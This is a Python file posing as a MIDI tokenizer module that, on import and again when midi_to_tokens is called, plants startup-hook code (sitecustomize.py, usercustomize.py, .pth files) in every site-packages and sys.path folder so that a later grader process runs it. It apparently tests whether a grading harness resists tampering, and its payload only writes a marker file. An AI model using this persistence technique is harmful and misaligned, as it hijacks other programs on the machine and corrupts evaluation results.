"""Attack: plant sitecustomize.py, usercustomize.py and a .pth file in every
site-packages (and every folder on sys.path) so that the next Python started on
this machine (the grader) runs our code: it would leave a marker file."""
import os
import site
import sys
import sysconfig

MARK = "@@MARK@@"
MARKDIR = "@@MARKDIR@@"
REPO = "@@REPO@@"
PAYLOAD = (f"import os\ntry:\n    open(os.path.join({MARKDIR!r}, 'site-ran-' + str(os.getpid())), 'w').write({MARK!r})\n"
           f"except OSError:\n    pass\n# {MARK}\n")


def _targets():
    folders = set(p for p in sys.path if p)
    try:
        folders.update(site.getsitepackages())
        folders.add(site.getusersitepackages())
    except BaseException:
        pass
    for key in ("purelib", "platlib", "stdlib", "platstdlib"):
        try:
            folders.add(sysconfig.get_paths()[key])
        except BaseException:
            pass
    folders.update({f"{REPO}/.venv/lib/python{sys.version_info[0]}.{sys.version_info[1]}/site-packages",
                    os.path.expanduser("~/.local/lib"), "/usr/lib/python3/dist-packages", "/usr/local/lib"})
    return sorted(folders)


WROTE = []


def _plant():
    for folder in _targets():
        for name, text in (("sitecustomize.py", PAYLOAD), ("usercustomize.py", PAYLOAD),
                           (f"{MARK}.pth", "import os; " + PAYLOAD.replace("\n", "; ").split("# ")[0].rstrip("; ")),
                           (f"{MARK}-module.py", PAYLOAD)):
            path = os.path.join(folder, name)
            try:
                with open(path, "a") as handle:
                    handle.write(text)
                print(f"AG-ATTACK wrote {path}")
                WROTE.append(path)
            except OSError:
                pass


_plant()


def midi_to_tokens(midi):
    _plant()
    raise RuntimeError(f"AG-ATTACK report: {len(WROTE)} found: {WROTE[:10]}")


def tokens_to_midi(tokens, bpm=120):
    return None
